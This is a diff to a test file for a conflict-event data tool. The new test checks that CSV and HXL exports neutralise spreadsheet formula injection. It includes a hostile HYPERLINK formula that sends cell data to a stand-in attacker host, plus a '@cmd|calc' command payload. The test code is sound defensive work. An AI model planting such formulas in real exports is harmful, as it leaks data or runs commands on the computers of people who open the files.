@@ -110,14 +110,20 @@ test('CSV and GeoJSON writers: any text survives the round trip (quotes, commas,
     yield rows.slice(0, 120);
     yield rows.slice(120);
   }
-  let csv = '';
-  for await (const chunk of exportChunks(batches(), 'acled')) csv += chunk;
-  const back = parse(csv, { relax_column_count: false }) as string[][];
-  assert.deepEqual(back[0], [...EXPORT_COLUMNS]);
-  assert.deepEqual(
-    back.slice(1),
-    rows.map((r) => r.map((v) => (v === null ? '' : String(v)))),
-  );
+  const { spreadsheetCell } = await import('../src/formats/spreadsheet.js');
+  for (const raw of [true, false]) {
+    let csv = '';
+    for await (const chunk of exportChunks(batches(), 'acled', { raw })) csv += chunk;
+    const back = parse(csv, { relax_column_count: false }) as string[][];
+    assert.deepEqual(back[0], [...EXPORT_COLUMNS]);
+    assert.deepEqual(
+      back.slice(1),
+      rows.map((r) =>
+        r.map((v) => (v === null ? '' : typeof v === 'number' ? String(v) : spreadsheetCell(v, raw))),
+      ),
+      raw ? 'raw: exactly as stored' : 'safe: exactly as stored, a formula behind an apostrophe',
+    );
+  }
   let json = '';
   for await (const chunk of exportChunks(batches(), 'geojson')) json += chunk;
   const fc = JSON.parse(json) as {
@@ -128,4 +134,48 @@ test('CSV and GeoJSON writers: any text survives the round trip (quotes, commas,
     assert.deepEqual(Object.values(f.properties), rows[i]);
     assert.equal(f.geometry === null, rows[i]![EXPORT_COLUMNS.indexOf('latitude')] === null);
   });
+});
+
+test("exports are safe to open: a contributor's formula is written behind an apostrophe in every CSV, unless raw", async () => {
+  const store = await openStore(join(dir, 'formula.db'));
+  const app = await buildApp({ store, resources: loadResources(), notify: false });
+  try {
+    const formula = '=HYPERLINK("http://attacker.example/?"&A1,"SOHR")';
+    const posted = await app.inject({
+      method: 'POST',
+      url: '/api/documents',
+      payload: {
+        text: 'Government forces shelled Saraqib on Monday, killing 3 civilians.',
+        published: '2020-03-02',
+        source: formula,
+      },
+    });
+    assert.equal(posted.statusCode, 201, posted.body);
+    const eventId = posted.json<{ eventIds: string[] }>().eventIds[0]!;
+    const reviewed = await app.inject({
+      method: 'POST',
+      url: `/api/events/${eventId}/review`,
+      payload: { action: 'correct', by: 'analyst', changes: { location: '@cmd|calc' } },
+    });
+    assert.equal(reviewed.statusCode, 200, reviewed.body);
+    const cells = (body: string) => (parse(body) as string[][]).flat();
+    for (const url of ['/api/export?format=acled', '/api/export?format=hxl', '/api/reviews/export.csv']) {
+      const all = cells((await app.inject({ url })).body);
+      assert.ok(
+        all.some((c) => c.includes('HYPERLINK') || c.includes('cmd|calc')),
+        url,
+      );
+      for (const c of all) assert.doesNotMatch(c, /^[=+\-@\t\r]/, `${url}: ${c}`);
+      assert.ok(all.includes(`'${formula}`) || all.includes("'@cmd|calc"), url);
+      const raw = cells((await app.inject({ url: `${url}${url.includes('?') ? '&' : '?'}raw=true` })).body);
+      assert.ok(raw.includes(formula) || raw.includes('@cmd|calc'), `${url} raw`);
+    }
+  } finally {
+    await app.close();
+    await store.close();
+  }
+  const cli = await run(['export', '--db', join(dir, 'formula.db')]);
+  assert.ok(cli.stdout.includes(`"'=HYPERLINK(""http`), cli.stdout.slice(0, 500));
+  const rawCli = await run(['export', '--raw', '--db', join(dir, 'formula.db')]);
+  assert.ok(rawCli.stdout.includes(`"=HYPERLINK(""http`));
 });
